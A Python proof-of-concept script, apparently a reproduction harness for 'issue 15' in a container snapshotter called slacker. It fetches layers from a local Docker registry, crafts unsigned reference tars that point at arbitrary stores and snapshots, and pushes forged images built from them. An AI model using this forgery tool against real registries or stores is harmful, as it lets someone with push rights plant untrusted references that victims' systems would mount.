#!/usr/bin/env python3
"""What an attacker with push rights to a registry does to a slacker store (issue 15).

  forge_image.py layer REG REPO TAG INDEX OUT
      layer INDEX (-1 = the top one) of REPO:TAG, uncompressed, to OUT
  forge_image.py saved-snapshot
      stdin: `docker save` of a slacker image; prints the snapshot its top layer names
  forge_image.py ref-tar OUT STORE SNAPSHOT FORMAT [PARENT]
      an UNSIGNED reference tar (no "mac"), format 1 or 2 (PARENT: a chain id)
  forge_image.py push REG REPO TAG LAYER...
      pushes an image made of these uncompressed layer tars (base first)

The registry is the stock one (docker-registry 2.8), plain HTTP on 127.0.0.1.
"""
import gzip
import hashlib
import io
import json
import sys
import tarfile
import urllib.request

MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"


def http(method, url, data=None, headers=None):
    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    with urllib.request.urlopen(req, timeout=60) as resp:
        return resp.read(), resp.headers


def layer(reg, repo, tag, index, out):
    body, _ = http("GET", f"http://{reg}/v2/{repo}/manifests/{tag}", headers={"Accept": MANIFEST})
    digest = json.loads(body)["layers"][int(index)]["digest"]
    blob, _ = http("GET", f"http://{reg}/v2/{repo}/blobs/{digest}")
    with open(out, "wb") as f:
        f.write(gzip.decompress(blob) if blob[:2] == b"\x1f\x8b" else blob)


def saved_snapshot():
    with tarfile.open(fileobj=io.BytesIO(sys.stdin.buffer.read())) as save:
        manifest = json.load(save.extractfile("manifest.json"))
        top = manifest[0]["Layers"][-1]
        with tarfile.open(fileobj=save.extractfile(top)) as ref:
            print(json.load(ref.extractfile(".slacker/ref.json"))["snapshot"])


def ref_tar(out, store, snapshot, fmt, parent=""):
    body = {"format": int(fmt), "store": store, "snapshot": snapshot}
    if int(fmt) == 2:
        body["parent"] = parent
    body["bytes"] = 4096
    data = json.dumps(body, separators=(",", ":")).encode()
    info = tarfile.TarInfo(".slacker/ref.json")
    assert len(data) <= 512
    info.size, info.mode, info.mtime = len(data), 0o644, 0
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        t.addfile(info, io.BytesIO(data))
    with open(out, "wb") as f:
        f.write(buf.getvalue()[:2048])  # header, body, end of archive: the rest is zero padding


def upload(reg, repo, data):
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    _, headers = http("POST", f"http://{reg}/v2/{repo}/blobs/uploads/", data=b"")
    loc = headers["Location"]
    if loc.startswith("/"):
        loc = f"http://{reg}{loc}"
    sep = "&" if "?" in loc else "?"
    http("PUT", f"{loc}{sep}digest={digest}", data=data, headers={"Content-Type": "application/octet-stream"})
    return digest


def push(reg, repo, tag, layers):
    diff_ids, entries = [], []
    for path in layers:
        raw = open(path, "rb").read()
        diff_ids.append("sha256:" + hashlib.sha256(raw).hexdigest())
        gz = gzip.compress(raw, mtime=0)
        entries.append({"mediaType": "application/vnd.docker.image.rootfs.diff.tar.gzip",
                        "size": len(gz), "digest": upload(reg, repo, gz)})
    config = json.dumps({
        "architecture": "amd64", "os": "linux",
        "config": {"Cmd": ["sh"]},
        "rootfs": {"type": "layers", "diff_ids": diff_ids},
        "history": [{"created_by": "forge_image.py"} for _ in layers],
    }).encode()
    manifest = json.dumps({
        "schemaVersion": 2, "mediaType": MANIFEST,
        "config": {"mediaType": "application/vnd.docker.container.image.v1+json",
                   "size": len(config), "digest": upload(reg, repo, config)},
        "layers": entries,
    }).encode()
    http("PUT", f"http://{reg}/v2/{repo}/manifests/{tag}", data=manifest, headers={"Content-Type": MANIFEST})


def main(argv):
    cmd, args = argv[1], argv[2:]
    if cmd == "layer":
        layer(*args)
    elif cmd == "saved-snapshot":
        saved_snapshot()
    elif cmd == "ref-tar":
        ref_tar(*args)
    elif cmd == "push":
        push(args[0], args[1], args[2], args[3:])
    else:
        sys.exit(f"unknown command {cmd}")


if __name__ == "__main__":
    main(sys.argv)
